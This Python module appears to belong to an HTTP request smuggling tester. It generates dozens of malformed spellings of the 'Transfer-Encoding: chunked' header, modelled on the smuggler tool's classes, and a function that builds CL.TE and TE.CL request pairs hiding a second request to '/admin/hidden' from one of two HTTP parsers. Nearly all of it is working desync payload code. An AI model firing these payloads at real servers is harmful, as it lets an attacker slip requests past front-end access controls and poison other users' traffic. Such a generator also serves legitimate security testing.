"""Spellings of ``Transfer-Encoding: chunked`` of which two programs may make two things.

The classes are those of smuggler (github.com/defparam/smuggler): an octet at one of four places of
the line, the same octet at two of them, a line that one of two readers takes for two, and
spellings that somebody once took for the coding.
"""

from collections.abc import Iterator
from itertools import combinations

NAME, VALUE = b"Transfer-Encoding", b"chunked"
BLANKS = bytes((*range(0x01, 0x21), *range(0x7F, 0x100)))
JOINTS = b"\x01\x04\x08\t\n\x0b\x0c\r\x1f \x7f\xa0\xff"
SPELLED = (
    b" Transfer-Encoding: chunked", b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding\t:\tchunked",
    b"Transfer Encoding: chunked", b"Transfer_Encoding: chunked", b"Transfer Encoding:chunked",
    b"Transfer-Encoding : chunked", b"Transfer-Encoding:  chunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: chunked, cow", b"Transfer-Encoding: cow, chunked",
    b"Content-Encoding: chunked", b"Transfer-Encoding:\n chunked",
    b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: 'chunked'", b"Transfer-Encoding: chunk",
    b"TrAnSFer-EnCODinG: cHuNkeD", b"TRANSFER-ENCODING: CHUNKED", b"Transfer-Encoding: chunked\r",
    b"Transfer-Encoding: chunked\t", b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer\r-Encoding: chunked", b"Transfer-Encoding: cow chunked bar",
    b"Transfer-Encoding:\xffchunked", b"Transfer-Encoding: ch\x96nked",
    b"Transf\x82r-Encoding: chunked", b"X:X\rTransfer-Encoding: chunked",
    b"X:X\nTransfer-Encoding: chunked",
)  # fmt: skip
HIDDEN = b"GET /admin/hidden HTTP/1.1\r\nHost: a\r\nContent-Length: 7\r\n\r\n"


def _with(blank: bytes, places: tuple[int, ...]) -> bytes:
    """Return the line with a blank at these of: its front, before and behind the colon, its end."""
    parts = [b"", b"", b" ", b""]
    for place in places:
        parts[place] = blank
    return b"".join((parts[0], NAME, parts[1], b":", parts[2], VALUE, parts[3]))


def _all() -> Iterator[bytes]:
    yield from SPELLED
    for octet in BLANKS:
        blank = bytes((octet,))
        yield from (_with(blank, (place,)) for place in range(4))
        yield from (_with(blank, places) for places in combinations(range(4), 2))
    line = NAME + b": " + VALUE
    for octet in JOINTS:
        joint = bytes((octet,))
        for before, behind in ((b"", b""), (b"\r", b""), (b"", b"\n")):
            yield b"X: X" + before + joint + behind + line
            yield line + before + joint + behind + b"X: X"


GADGETS = tuple(dict.fromkeys(_all()))


def pair_of(gadget: bytes, head: bytes) -> tuple[bytes, bytes]:
    """Return CL.TE and TE.CL: a request that hides another from one of two readers.

    ``head`` is its request line and its fields but those that tell the body's end.
    """
    early = b"0\r\n\r\n" + HIDDEN
    chunk = b"%x\r\n" % len(HIDDEN)
    late = chunk + HIDDEN + b"\r\n0\r\n\r\n"
    framed = b"%b%b\r\nContent-Length: %d\r\n\r\n%b"
    return framed % (head, gadget, len(early), early), framed % (head, gadget, len(chunk), late)
